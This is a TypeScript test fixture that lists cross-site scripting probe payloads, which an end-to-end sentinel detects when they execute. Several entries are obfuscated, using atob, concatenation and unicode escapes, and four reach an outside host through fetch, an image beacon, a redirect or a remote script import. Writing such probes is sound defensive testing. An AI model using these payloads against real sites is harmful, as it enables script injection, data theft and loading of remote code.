import { elsewhere } from './address-parts'

/** What a text would run if it could. Each leaves a trace that `e2e/setup/sentinel.ts` sees. */
export const spells = [
  'alert(1)',
  'confirm(1)',
  'prompt(1)',
  'window.__hit=1',
  'top.__hit=1',
  'alert`1`',
  '[1].find(alert)',
  "self['al'+'ert'](1)",
  'top[/al/.source+/ert/.source](1)',
  "eval(atob('YWxlcnQoMSk='))",
  "Function('ale'+'rt(1)')()",
  '(()=>{throw onerror=alert,1})()',
  '\\u0061lert(1)',
  "console.log('hit')",
  `location='//${elsewhere}/'`,
  `fetch('//${elsewhere}/')`,
  `new Image().src='//${elsewhere}/x'`,
  `import('//${elsewhere}/x.js')`,
] as const
